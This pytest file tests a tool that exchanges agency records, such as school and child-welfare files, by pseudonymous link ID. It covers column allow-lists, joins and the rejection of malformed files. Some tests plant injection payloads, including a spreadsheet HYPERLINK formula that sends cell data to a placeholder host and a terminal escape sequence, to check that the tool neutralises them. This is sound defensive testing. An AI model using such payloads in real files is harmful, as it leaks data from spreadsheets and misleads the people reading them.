"""Exchanging columns by link ID: what was listed passes, and nothing else."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from samples.refusals import raises

from encoding.errors import (
    ColumnNotListedError,
    ConfigError,
    EmptyFileError,
    FileMissingError,
    LinksFileError,
)
from encoding.records.agency_file import AgencyFile
from encoding.sharing.columns import Attached, LinkedTable, attach, extract, join_rows, not_agreed

A, B, C = "a" * 32, "b" * 32, "c" * 32
Write = Callable[..., Path]


@pytest.fixture
def write(tmp_path: Path) -> Write:
    def write_text(name: str, *lines: str) -> Path:
        path = tmp_path / name
        path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
        return path

    return write_text


PUPILS = (
    "SID,name,school,grade",
    *("p2,Bo,North,5", "p1,Ana,South,4", "p1,Ana,South,4", "p1,Ana,North,4", "p9,Zoe,East,1"),
)
CHILDREN = ("ID,name,county", "7,Ana,K", "8,Bo,L", "9,Cy,M")
SCHOOL_LINKS, WELFARE_LINKS = {"p1": B, "p2": A}, {"7": B, "8": A}


def lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


class Attaching:
    """Child welfare's file and links, and what attaching a received file to them wrote."""

    def __init__(self, write: Write, folder: Path) -> None:
        self.file = AgencyFile(write("children.csv", *CHILDREN), "ID")
        self.received, self.out = folder / "received.csv", folder / "out.csv"

    def attach(self, *columns: str, **how: Any) -> Attached:
        return attach(self.file, WELFARE_LINKS, self.received, columns, self.out, **how)

    def written(self) -> list[str]:
        return lines(self.out)


@pytest.fixture
def welfare(write: Write, tmp_path: Path) -> Attaching:
    return Attaching(write, tmp_path)


@pytest.fixture
def received(write: Write, tmp_path: Path) -> Path:
    """What the schools handed over, where `welfare` looks for it."""
    pupils = AgencyFile(write("pupils.csv", *PUPILS), "SID")
    extract(pupils, SCHOOL_LINKS, ["school", "grade"], tmp_path / "received.csv")
    return tmp_path / "received.csv"


def test_extract_holds_link_ids_and_chosen_columns_in_an_order_of_their_own(
    received: Path, write: Write, tmp_path: Path
) -> None:
    rows = [f"{A},North,5", f"{B},North,4", f"{B},South,4"]
    assert lines(received) == ["link_id,school,grade", *rows]
    shuffled = AgencyFile(write("again.csv", PUPILS[0], *reversed(PUPILS[1:])), "SID")
    extract(shuffled, SCHOOL_LINKS, ["school", "grade"], tmp_path / "again-extract.csv")
    assert lines(tmp_path / "again-extract.csv") == lines(received)


def test_attach_writes_record_id_kept_and_listed_columns(
    welfare: Attaching, received: Path
) -> None:
    assert welfare.attach("grade", "school") == Attached(rows=3)
    assert welfare.written() == ["ID,grade,school", "7,4,North", "7,4,South", "8,5,North"]
    welfare.attach("school", "grade", keep=["county"])
    assert welfare.written()[:2] == ["ID,county,school,grade", "7,K,North,4"]


def test_what_was_received_is_no_formula_for_a_spreadsheet(welfare: Attaching) -> None:
    cells = ['=HYPERLINK("http://x/?"&A1)', "@SUM(A1)", "-1.5", "+1 555-0100"]
    with welfare.received.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["link_id", "=last"], *([A, cell] for cell in cells)])
    welfare.attach("=last")
    with welfare.out.open(encoding="utf-8", newline="") as file:
        rows = [row[1] for row in csv.reader(file)]
    assert rows == ["'=last", f"'{cells[0]}", f"'{cells[1]}", *cells[2:]]


BOTH = ("school", "grade")


@pytest.mark.parametrize(
    ("received", "columns", "error", "said"),
    [
        (("link_id,school\x1b[2K", f"{A},x"), ("school",), ColumnNotListedError,
         r"the column school\\x1b\[2K, which"),
        (("link_id,school,grade", f"{A},North,5"), ("school",), ColumnNotListedError, "grade"),
        (("link_id,school,grade", f"{A},North,5"), (*BOTH, "teacher"), LinksFileError,
         "has no column teacher"),
        (("school,grade", "x,y"), BOTH, LinksFileError, "no column link_id"),
        (("linkid,school,grade", "x,y,y"), BOTH, LinksFileError, "no column link_id"),
        (("link_id,school", f"{A},North", "7,South"), ("school",), LinksFileError,
         "row 2: not a link ID"),
        (("link_id,school", f"{C},North"), ("school",), LinksFileError,
         "none of the link IDs.*same run"),
        (("link_id,county", f"{A},X"), ("county",), ConfigError, "twice"),
        (("link_id,ID", f"{A},X"), ("ID",), ConfigError,
         "the column ID would be there twice.*in your own file"),
    ],
)  # fmt: skip
def test_a_received_file_that_does_not_fit_is_refused_by_what_is_wrong_and_nothing_is_written(
    welfare: Attaching, write: Write, received: tuple[str, ...], columns: Any, error: Any, said: str
) -> None:
    write("received.csv", *received)
    with raises(error) as caught:
        welfare.attach(*columns, keep=["county"])
    assert re.search(said, f"{caught.value} {caught.value.hint}", re.DOTALL)
    assert not welfare.out.exists()


def test_a_received_file_of_no_rows_attaches_nothing_and_an_own_one_is_an_error(
    welfare: Attaching, write: Write
) -> None:
    write("received.csv", "link_id,school")
    assert welfare.attach("school") == Attached(rows=0)
    assert welfare.written() == ["ID,school"]
    welfare.file = AgencyFile(write("empty.csv", "ID,name"), "ID")
    with pytest.raises(EmptyFileError):
        welfare.attach("school")


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "no header row"),
        (b"\xff\xfel\0i\0", "a NUL byte"),
        (b"link_id,school,school\n", "the same name"),
        (b"PK\x03\x04", "an archive"),
        (b"link_id,school\n" + A.encode() + b",a,b\n", "row 1 has 3 cells"),
        (b"link_id,school\n" + A.encode() + b',"a\n', "do not pair up"),
        (b"link_id,school\n" + A.encode() + b"," + bytes(3) + b"\n", "a NUL byte"),
        (b"link_id,school\n" + A.encode() + b"," + b"x" * 1_000_001 + b"\n", "longer than"),
    ],
    ids=["empty", "UTF-16", "twice", "ZIP", "ragged", "open", "NUL", "long"],
)
def test_a_received_file_that_cannot_be_read_is_told_from_ones_own(
    welfare: Attaching, content: bytes, told: str
) -> None:
    with raises(FileMissingError):
        welfare.attach("school")
    welfare.received.write_bytes(content)
    with raises(LinksFileError, match=told) as caught:
        welfare.attach("school")
    assert "received.csv" in str(caught.value)
    assert "blindlink deliver" in str(caught.value.hint)


def test_commas_and_line_ends_in_cells_survive_and_make_no_row_at_the_recipient(
    welfare: Attaching, tmp_path: Path
) -> None:
    path = tmp_path / "q.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["SID", "school"], ["p1", 'St. "X", East\nWing']])
    extract(AgencyFile(path, "SID"), SCHOOL_LINKS, ["school"], tmp_path / "o.csv")
    rows = list(csv.reader((tmp_path / "o.csv").read_text().splitlines(keepends=True)))
    assert rows == [["link_id", "school"], [B, 'St. "X", East\nWing']]
    path.write_bytes(b'SID,school,grade\np1,"North\r8",4\np2,East,5\n')
    extract(AgencyFile(path, "SID"), SCHOOL_LINKS, ["school", "grade"], welfare.received)
    welfare.attach("school", "grade")
    assert welfare.out.read_bytes() == b'ID,school,grade\n7,"North\r8",4\n8,East,5\n'


@pytest.mark.parametrize(
    ("columns", "agreed", "left"),
    [
        (("school", "Grade_Level"), ("School", "Grade level"), ()),
        (("school", "phone"), ("School", "Grade level"), ("phone",)),
        (("school",), None, ()),
        (("school",), (), ("school",)),
        (("schools",), ("School",), ("schools",)),
    ],
)
def test_columns_that_the_agreement_does_not_name_are_told(
    columns: tuple[str, ...], agreed: tuple[str, ...] | None, left: tuple[str, ...]
) -> None:
    assert not_agreed(columns, agreed) == left


def test_who_is_in_several_files_is_there_with_the_columns_of_all() -> None:
    courts = LinkedTable(("county",), [("b", "Kern")])
    schools = LinkedTable(("grade", "county"), [("a", "7", "Inyo"), ("b", "8", ""), ("b", "9", "")])
    welfare = LinkedTable(("kin",), [("c", "yes"), ("a", "no")])
    found = join_rows({"courts": courts, "schools": schools, "welfare": welfare})
    assert found.columns == ("courts.county", "grade", "schools.county", "kin")
    assert found.rows == [
        ("a", "", "7", "Inyo", "no"),
        ("b", "Kern", "8", "", ""),
        ("b", "Kern", "9", "", ""),
    ]


def test_nobody_in_common_is_no_row() -> None:
    schools, welfare = (
        LinkedTable(("grade",), [("a", "7")]),
        LinkedTable(("link_id",), [("b", "x")]),
    )
    assert join_rows({"schools": schools, "welfare": welfare}) == (("grade", "welfare.link_id"), [])
